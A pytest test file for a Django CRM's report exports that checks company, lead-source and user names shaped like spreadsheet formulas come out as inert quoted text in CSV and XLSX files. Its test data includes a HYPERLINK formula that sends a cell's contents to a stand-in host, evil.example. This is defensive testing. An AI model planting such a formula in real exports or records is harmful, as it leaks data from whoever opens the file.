"""A name that looks like a spreadsheet formula reaches whoever opens an export as text: in a
shared builder report, a dashboard block and the scorecard, as CSV and as XLSX (read back)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from conftest import client_for
from tests.factories import CompanyFactory, DealFactory, stage
from voronka.analytics.models import SavedReport
from voronka.core.export import is_formula_like, neutralise
from voronka.sales.models import LeadSource, StageKind

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Нажмите")'
HOSTILE = [EVIL, "+SUM(1,2)", "-2+3", "@SUM(A1)", "  =1+1", "\t=1+1", "\r=1+1"]


def csv_cells(response) -> list[str]:
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_text_everywhere(client, url, params, name):
    """The name is in both files, as inert text: quoted in the CSV, a text cell in the XLSX."""
    as_csv = csv_cells(client.get(url.format(fmt="csv"), params))
    assert "'" + name in as_csv, as_csv
    assert name not in as_csv  # never unquoted
    cells = [c for c in xlsx_cells(client.get(url.format(fmt="xlsx"), params)) if c.value == name]
    assert cells, "the name is missing from the workbook"
    assert all(c.data_type == "s" for c in cells)  # text, not "f" (a formula)


@pytest.mark.parametrize("name", HOSTILE)
def test_neutralise_quotes_what_a_spreadsheet_would_run(name):
    assert is_formula_like(name)
    assert neutralise(name) == "'" + name


@pytest.mark.parametrize("text", ["-5", "+7 701 123 45 67", "1 000,50", "Ромашка", "a=b", ""])
def test_plain_numbers_and_text_are_left_alone(text):
    assert neutralise(text) == text


def test_a_shared_builder_report(owner, teammate):
    CompanyFactory(owner=owner, name=EVIL, is_customer=True)
    report = SavedReport.objects.create(
        author=owner,
        name="Все клиенты",
        entity="companies",
        spec={"columns": ["name"]},
        sharing="everyone",
    )
    url = reverse("reports:builder-export", args=[report.pk, "FMT"]).replace("FMT", "{fmt}")
    assert_text_everywhere(client_for(teammate), url, {}, EVIL)


def test_a_dashboard_block(owner):
    source = LeadSource.objects.create(name="@SUM(A1:A9)")
    won = next(s for s in stage(0).pipeline.stages.all() if s.kind == StageKind.WON)
    DealFactory(owner=owner, lead_source=source, stage=won, currency="KZT")
    url = reverse("reports:export", args=["sources", "FMT"]).replace("FMT", "{fmt}")
    today = datetime.date.today()
    params = {"period": "custom", "start": f"{today.year - 1}-01-01", "end": f"{today.year}-12-31"}
    assert_text_everywhere(client_for(owner), url, params, "@SUM(A1:A9)")


def test_the_scorecard(owner, head):
    owner.first_name, owner.last_name = "=1+1", ""
    owner.save(update_fields=["first_name", "last_name"])
    url = reverse("reports:scorecard-export", args=["FMT"]).replace("FMT", "{fmt}")
    assert_text_everywhere(client_for(head), url, {}, "=1+1")
